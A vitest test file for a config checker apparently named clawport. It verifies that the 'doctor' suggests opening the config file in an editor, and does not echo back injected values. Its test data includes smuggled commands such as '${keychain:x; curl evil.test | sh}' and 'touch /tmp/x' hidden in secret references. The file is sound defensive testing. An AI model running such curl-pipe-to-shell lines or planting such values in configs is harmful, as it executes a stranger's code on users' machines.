import { expect, test } from "vitest";
import { loadConfig } from "../../core/config/load-config.ts";
import type { ActiveConfig } from "../state/active-config.ts";
import { checkConfig } from "./check-config.ts";

test.each([
  ["$KEY", "export KEY=…"],
  ["${keychain:github}", "clawport secret set github"],
  // Whoever follows the advice would run what a stranger wrote.
  ["${keychain:x; curl evil.test | sh}", '${EDITOR:-vi} +1 "/there/clawport.json5"'],
  ["${cmd:touch /tmp/x}", '${EDITOR:-vi} +1 "/there/clawport.json5"'],
  ["${file:/x; touch /tmp/x}", '${EDITOR:-vi} +1 "/there/clawport.json5"'],
])("%s without a value: doctor suggests %s", async (value, fix) => {
  const text = JSON.stringify({ servers: { a: { command: "x", env: { A: value } } } });
  const loaded = await loadConfig({
    path: "/there/clawport.json5",
    env: {},
    text,
    resolve: (names) => Promise.resolve({ values: new Map(), problems: new Map(names.map((name) => [name, "no"])) }),
  });
  const active: ActiveConfig = { config: loaded.config, file: { ...loaded, location: "working-folder" } };
  const findings = checkConfig({ active }, [], (name) => `export ${name}=…`);
  expect(findings.map((finding) => finding.fix)).toContain(fix);
});
